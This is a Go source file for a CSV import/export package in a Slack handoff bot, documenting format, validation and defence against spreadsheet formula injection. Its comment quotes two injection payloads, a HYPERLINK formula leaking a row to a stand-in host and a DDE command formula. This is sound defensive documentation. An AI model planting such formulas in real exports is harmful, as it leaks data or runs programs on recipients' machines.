// Package handoffcsv reads and writes the handoff CSV (docs/csv.md): `handoffbot import FILE.csv`,
// `handoffbot export` and `/handoff export` all go through it, so that an
// export imports back to the same rows.
//
// # Format
//
// UTF-8, comma-separated, one header row naming the columns of [Columns]
// (any order on import, that order on export), one handoff per record.
// Times are RFC 3339; the writer prints them in UTC with nanosecond
// precision ([time.RFC3339Nano]), so the microseconds Postgres keeps survive
// a round trip. People are Slack user IDs, enumerations and reasons are the
// codes listed in docs/csv.md, and an empty cell is a null. A leading byte order mark
// and CRLF line endings are accepted on import.
//
// A line break inside a cell is LF on both sides: CSV readers (ours
// included) turn a CRLF inside a quoted cell into LF, so the writer writes
// CRLF and a lone CR as LF, and Read turns any CR left in a cell into LF
// too. An export therefore reads back to the same rows and re-exports byte
// for byte.
//
// # Reading is validation
//
// [Read] is the gate of `handoffbot import`, which is all-or-nothing: it
// checks every record against the rules of the domain (see [Read]) and
// either returns every row or an [*Error] that lists every bad cell by line
// and column. Line numbers count the header as line 1; a record whose
// quoted cells span several lines is reported at the line it starts on.
// Cells are taken as they are: nothing is trimmed or case-folded, so what
// is imported is exactly what the file says.
//
// Memory stays bounded by the file's rows, never by one line: a record
// longer than [MaxRecordBytes] stops the reading with a problem instead of
// being buffered whole. Such a record is almost always a quote left open,
// which swallows the rest of the file, so nothing after it is checked.
//
// # Spreadsheet formulas
//
// Managers open exports in Excel or LibreOffice, which run a cell that
// starts with =, +, -, @, a tab or a carriage return as a formula. A lead
// name typed in Slack as =HYPERLINK("https://evil.example?"&B2,"Open") or
// =cmd|'/c calc'!A1 would then, on a click or a confirmation, send the row
// elsewhere or start a program on the manager's machine: text from people
// the manager never vetted becomes code on their computer. Every export is
// opened by someone eventually, so neutralising is the default and cannot
// be forgotten: [NewWriter] puts a quote mark (') before each such cell,
// which spreadsheets read as "text follows", and before each cell that
// already starts with one. [Read] takes off exactly that one, so an export
// still imports back to the same rows: from a cell that starts with a
// quote mark followed by =, +, -, @, a tab, a carriage return or a second
// quote mark, the first quote mark is taken off; any other cell, a formula
// someone typed into a file included, is kept as it is. A carriage return
// never starts a written cell: it is written as a line feed (see above).
//
// Programs that want the exact text use [NewRawWriter] (`handoffbot export
// --raw`) and read it with [ReadRaw] (`handoffbot import --raw`); such a
// file must not be opened in a spreadsheet. Lengths are checked on the text
// without the added quote mark, so a value at its limit survives either
// way.
package handoffcsv

import "slices"

// Columns are the CSV columns, in the order the writer puts them. It is a
// copy: changing it changes nothing in the package.
var Columns = slices.Clone(columns[:])

// columns are the names the package itself uses, indexed by the col
// constants.
var columns = [numColumns]string{
	"external_id", "created_at", "direction", "lead_name", "company", "email", "phone",
	"source", "campaign", "created_by", "assignee", "priority", "state", "accepted_at",
	"rejected_at", "reject_reason", "first_touch_at", "qualified_at", "closed_at",
	"close_reason", "reason_note", "notes",
}

// Column indexes into Columns; the reader and writer work in this order.
const (
	colExternalID = iota
	colCreatedAt
	colDirection
	colLeadName
	colCompany
	colEmail
	colPhone
	colSource
	colCampaign
	colCreatedBy
	colAssignee
	colPriority
	colState
	colAcceptedAt
	colRejectedAt
	colRejectReason
	colFirstTouchAt
	colQualifiedAt
	colClosedAt
	colCloseReason
	colReasonNote
	colNotes
	numColumns
)

// MaxExternalID is the longest external_id accepted, in characters.
const MaxExternalID = 200

// MaxRecordBytes bounds one record (its line or lines, with the line
// ending). The longest valid record is a few tens of kilobytes; the limit
// only exists so that one enormous line cannot exhaust memory.
const MaxRecordBytes = 1 << 20
